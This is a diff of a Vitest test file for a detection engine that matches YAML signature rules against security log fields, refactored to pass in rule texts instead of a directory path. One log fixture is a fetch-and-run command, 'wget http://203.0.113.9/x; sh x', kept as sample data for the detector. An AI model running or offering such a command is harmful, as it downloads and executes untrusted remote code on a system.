@@ -2,13 +2,14 @@ import {mkdirSync, writeFileSync} from "node:fs";
 import {join} from "node:path";
 import {describe, expect, it, onTestFinished} from "vitest";
 import {type Database, openDatabase} from "../../../data-loaders/database.js";
-import {findSignatures} from "../../../data-loaders/detect/find-signatures.js";
+import {readTexts} from "../../../data-loaders/read-content.js";
+import {findSignatures} from "../../../src/engine/analysis/detect/find-signatures.js";
 import {selectSignatureHits, selectSignatures} from "../../../src/engine/signatures/queries.js";
 import {signatureHits, signatures} from "../../../src/engine/tables/signatures.js";
 import {makeDirectory} from "../directory.js";
 
 const progress = {stage() {}, update() {}, end() {}};
-const rules = "data/signatures";
+const {files: rules} = await readTexts("data/signatures", /\.yml$/);
 
 const columns = ["http_url", "http_user_agent", "http_host", "payload", "command", "message", "username"];
 const others = ["file_name", "dns_query"];
@@ -129,7 +130,11 @@ signatures:
 `
     );
     const database = await withLogs([{command: "EVIL"}]);
-    const {signatures, hits, errors} = await findSignatures(database, directory, progress);
+    const {signatures, hits, errors} = await findSignatures(
+      database,
+      (await readTexts(directory, /\.yml$/)).files,
+      progress
+    );
     expect({signatures, hits}).toEqual({signatures: 1, hits: 1});
     expect(errors).toEqual([
       expect.stringMatching(/^signatures\/broken\.yml:1:/),
@@ -139,7 +144,7 @@ signatures:
 
   it("leaves empty tables where there are no signatures", async () => {
     const database = await withLogs([{command: "wget http://203.0.113.9/x; sh x"}]);
-    expect(await findSignatures(database, join(makeDirectory(), "none"), progress)).toEqual({
+    expect(await findSignatures(database, [], progress)).toEqual({
       signatures: 0,
       hits: 0,
       errors: []
